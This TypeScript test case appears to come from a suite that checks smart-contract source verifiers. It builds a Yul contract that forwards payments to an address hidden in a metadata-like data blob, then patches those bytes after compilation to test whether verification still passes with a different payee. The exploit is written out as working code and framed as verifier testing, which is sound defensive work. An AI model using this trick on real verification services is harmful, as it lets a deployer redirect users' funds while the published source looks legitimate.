import type { Attack, Program } from "./attack.ts";
import { replace } from "./attack-world.ts";

const program: Program = {
  language: "Yul",
  sources: {
    "Till.yul": `object "Till" {
  code { datacopy(0, dataoffset("Runtime"), datasize("Runtime")) return(0, datasize("Runtime")) }
  object "Runtime" {
    code {
      datacopy(0, dataoffset("Seal"), datasize("Seal"))
      mstore(64, shr(96, mload(10)))
      pop(call(gas(), mload(64), callvalue(), 0, 0, 0, 0))
    }
    data "Seal" hex"a2646970667358221220aabbccddeeff00112233445566778899aabbccdd000000000000000000000000000064736f6c634300081c0033"
  }
}`,
  },
  contract: "Till.yul:Till",
};

const attack: Attack = {
  title: "data at the end of Yul code reads as metadata, and names another payee on chain",
  attack: async (world) => {
    const { creation } = await world.compile(program);
    const code = replace(creation, "aabbccddeeff00112233", "66666666666666666666");
    return world.verify(program, await world.deploy(code));
  },
  honest: async (world) => {
    const { creation } = await world.compile(program);
    return world.verify(program, await world.deploy(`0x${creation}`));
  },
  reaches: "partial",
};

export default attack;
